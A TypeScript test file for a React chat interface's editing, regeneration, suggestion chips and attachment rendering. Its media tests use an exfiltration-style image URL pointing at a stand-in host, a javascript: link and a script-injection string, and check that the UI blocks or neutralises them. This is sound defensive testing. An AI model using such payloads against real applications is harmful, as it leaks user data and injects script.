import { describe, expect, it, vi } from "vitest";
import { act, screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import type { BaseEvent, RunAgentInput } from "@ag-ui/core";
import { Composer, createThreadStore, MessageRenderer, SUGGESTIONS_EVENT, useMessageIds, type ThreadStore } from "../../src";
import { ScriptedAgent } from "../../src/testing";
import { ev } from "../support/events";
import { expectNoAxeViolations, renderKit } from "./support";

let n = 0;
function conversation(suggest?: BaseEvent[]) {
  const inputs: RunAgentInput[] = [];
  const agent = new ScriptedAgent({
    script: (input) => {
      inputs.push(input);
      const id = `a${++n}`;
      const last = input.messages[input.messages.length - 1];
      return [ev.runStarted(input.runId), ev.textStart(id), ev.text(id, `Heard: ${typeof last?.content === "string" ? last.content : ""}`), ev.textEnd(id), ...(suggest ?? []), ev.runFinished(input.runId)];
    },
  });
  const store = createThreadStore({ agent, batch: "sync", createId: () => `id-${++n}` });
  store.getState().sendMessage("Lyon");
  return { store, inputs };
}

function Rows() {
  return useMessageIds().map((id) => <MessageRenderer key={id} id={id} />);
}

function Chat() {
  return (
    <>
      {/* The rows themselves: jsdom cannot measure the virtualised Thread. */}
      <Rows />
      <Composer />
    </>
  );
}

const texts = (store: ThreadStore) => store.getState().thread.messageIds.map((id) => store.getState().thread.messages.get(id)).map((m) => (m && "content" in m ? m.content : ""));

describe("Edit, branches, regenerate, copy", () => {
  it("editing a message sends the edit as a new version; the picker browses back", async () => {
    const { store, inputs } = conversation();
    const { container } = renderKit(<Chat />, store);
    await expectNoAxeViolations(container);
    const user = userEvent.setup();
    await user.click(screen.getByRole("button", { name: "Edit" }));
    const editor = await screen.findByRole("textbox", { name: "Edit your message" });
    expect(editor).toHaveValue("Lyon");
    await expectNoAxeViolations(container);
    await user.clear(editor);
    await user.type(editor, "Paris{Enter}");
    expect(texts(store)).toEqual(["Paris", "Heard: Paris"]);
    expect(inputs[1]!.parentRunId).toBe(inputs[0]!.runId);
    const picker = screen.getByRole("group", { name: "Versions" });
    expect(picker).toHaveAttribute("data-index", "2");
    expect(within(picker).getByText("Version 2 of 2")).toBeInTheDocument();
    expect(within(picker).getByRole("button", { name: "Next version" })).toBeDisabled();
    await user.click(within(picker).getByRole("button", { name: "Previous version" }));
    expect(texts(store)).toEqual(["Lyon", "Heard: Lyon"]);
    expect(screen.getByRole("group", { name: "Versions" })).toHaveAttribute("data-index", "1");
  });

  it("Escape closes the editor without sending; an empty edit is refused in words", async () => {
    const { store, inputs } = conversation();
    renderKit(<Chat />, store);
    const user = userEvent.setup();
    await user.click(screen.getByRole("button", { name: "Edit" }));
    await screen.findByRole("textbox", { name: "Edit your message" });
    await user.keyboard("{Escape}");
    expect(screen.queryByRole("textbox", { name: "Edit your message" })).toBeNull();
    await user.click(screen.getByRole("button", { name: "Edit" }));
    await user.clear(await screen.findByRole("textbox", { name: "Edit your message" }));
    await user.click(screen.getByRole("button", { name: "Save and send" }));
    expect(screen.getByRole("alert")).toHaveTextContent("The message is empty.");
    expect(inputs).toHaveLength(1);
  });

  it("Regenerate asks again and keeps the old answer as version 1; Copy copies Markdown", async () => {
    const { store } = conversation();
    renderKit(<Chat />, store);
    const user = userEvent.setup();
    const writeText = vi.fn(() => Promise.resolve());
    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
    await user.click(screen.getAllByRole("button", { name: "Copy" })[1]!);
    expect(writeText).toHaveBeenCalledWith("Heard: Lyon");
    await waitFor(() => expect(screen.getAllByRole("button", { name: "Copied" })).toHaveLength(1));
    await user.click(screen.getByRole("button", { name: "Regenerate" }));
    expect(store.getState().thread.messageIds).toHaveLength(2);
    expect(screen.getByRole("group", { name: "Versions" })).toHaveAttribute("data-count", "2");
  });

  it("while the agent answers, Edit and Regenerate are disabled", () => {
    const agent = new ScriptedAgent({ script: [ev.runStarted("r1"), ev.textStart("a1"), ev.text("a1", "…"), ev.textEnd("a1"), { delay: 3_600_000 }] });
    const store = createThreadStore({ agent, batch: "sync", createId: () => `id-${++n}` });
    store.getState().sendMessage("Lyon");
    renderKit(<Chat />, store);
    expect(screen.getByRole("button", { name: "Edit" })).toBeDisabled();
    expect(screen.getByRole("button", { name: "Regenerate" })).toBeDisabled();
    act(() => store.getState().stop());
  });
});

describe("SuggestionChips", () => {
  it("shows the agent's quick replies above the composer; a click sends one and focus stays in the composer", async () => {
    const { store, inputs } = conversation([ev.custom(SUGGESTIONS_EVENT, { suggestions: [{ label: "The 8:05" }, { label: "Later", value: "Remind me tomorrow" }] })]);
    const { container } = renderKit(<Chat />, store);
    const chips = screen.getByRole("group", { name: "Suggested replies" });
    expect(within(chips).getAllByRole("button").map((b) => b.textContent)).toEqual(["The 8:05", "Later"]);
    await expectNoAxeViolations(container);
    await userEvent.setup().click(within(chips).getByRole("button", { name: "Later" }));
    expect(inputs[1]!.messages.at(-1)).toMatchObject({ role: "user", content: "Remind me tomorrow" });
    expect(document.activeElement).toBe(screen.getByRole("textbox", { name: "Message" }));
  });

  it("renders nothing without suggestions", () => {
    const { store } = conversation();
    renderKit(<Chat />, store);
    expect(screen.queryByRole("group", { name: "Suggested replies" })).toBeNull();
  });
});

describe("MessageMedia", () => {
  it("an image from another site waits for a click naming the host; a //host URL is another site; the app can allow origins", async () => {
    const image = (value: string, filename: string) => ({ type: "image", source: { type: "url", value, mimeType: "image/png" }, metadata: { filename } });
    const store = createThreadStore({
      agent: new ScriptedAgent({ script: [] }),
      initialMessages: [{ id: "a1", role: "user", content: [image("//evil.example/leak?d=secret", "leak.png"), image("https://cdn.example/ok.png", "ok.png"), image("/own.png", "own.png")] as never }],
    });
    const { container, unmount } = renderKit(<Chat />, store, { urlPolicy: { imageOrigins: ["https://cdn.example"] } });
    expect(await screen.findByRole("img", { name: "ok.png" })).toHaveAttribute("src", "https://cdn.example/ok.png");
    expect(screen.getByRole("img", { name: "own.png" })).toHaveAttribute("src", `${location.origin}/own.png`);
    expect(container.querySelector('img[src*="evil.example"]')).toBeNull();
    const ask = screen.getByRole("button", { name: /^Load image from evil\.example/ });
    await expectNoAxeViolations(container);
    await userEvent.setup().click(ask);
    expect(screen.getByRole("img", { name: "leak.png" })).toHaveAttribute("src", `${location.protocol}//evil.example/leak?d=secret`);
    unmount();

    renderKit(<Chat />, store, { locale: "zh-CN" });
    expect(await screen.findByRole("button", { name: /^从 cdn\.example 加载图片/ })).toBeInTheDocument();
  });

  const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

  it("shows images inline and files as chips; unsafe or malformed sources are plain chips; an edit keeps them", async () => {
    const inputs: RunAgentInput[] = [];
    const agent = new ScriptedAgent({ script: (input) => (inputs.push(input), [ev.runStarted(input.runId), ev.runFinished(input.runId)]) });
    const store = createThreadStore({
      agent,
      batch: "sync",
      createId: () => `id-${++n}`,
      initialMessages: [
        {
          id: "u1",
          role: "user",
          content: [
            { type: "text", text: "What is this?" },
            { type: "image", source: { type: "data", value: PNG, mimeType: "image/png" }, metadata: { filename: "dot.png" } },
            { type: "document", source: { type: "url", value: "https://example.com/report.pdf", mimeType: "application/pdf" }, metadata: { filename: "report.pdf" } },
            { type: "document", source: { type: "url", value: "javascript:alert(1)" }, metadata: { filename: "evil.pdf" } },
            { type: "image", source: { type: "data", value: "\"><script>", mimeType: "image/png" }, metadata: { filename: "broken.png" } },
          ],
        },
      ],
    });
    const { container } = renderKit(<Chat />, store);
    expect(await screen.findByRole("img", { name: "dot.png" })).toHaveAttribute("src", `data:image/png;base64,${PNG}`);
    expect(screen.getByRole("link", { name: "Attachment: report.pdf" })).toHaveAttribute("href", "https://example.com/report.pdf");
    expect(screen.queryByRole("link", { name: /evil/ })).toBeNull();
    expect(screen.getByText("evil.pdf")).toBeInTheDocument();
    expect(screen.queryByRole("img", { name: "broken.png" })).toBeNull();
    await expectNoAxeViolations(container);

    const user = userEvent.setup();
    await user.click(screen.getByRole("button", { name: "Edit" }));
    await user.type(await screen.findByRole("textbox", { name: "Edit your message" }), " Really?{Enter}");
    const sent = inputs[0]!.messages[0]!;
    expect(Array.isArray(sent.content) && sent.content.map((p) => p.type)).toEqual(["text", "image", "document", "document", "image"]);
    expect(Array.isArray(sent.content) && sent.content[0]).toEqual({ type: "text", text: "What is this? Really?" });
  });
});
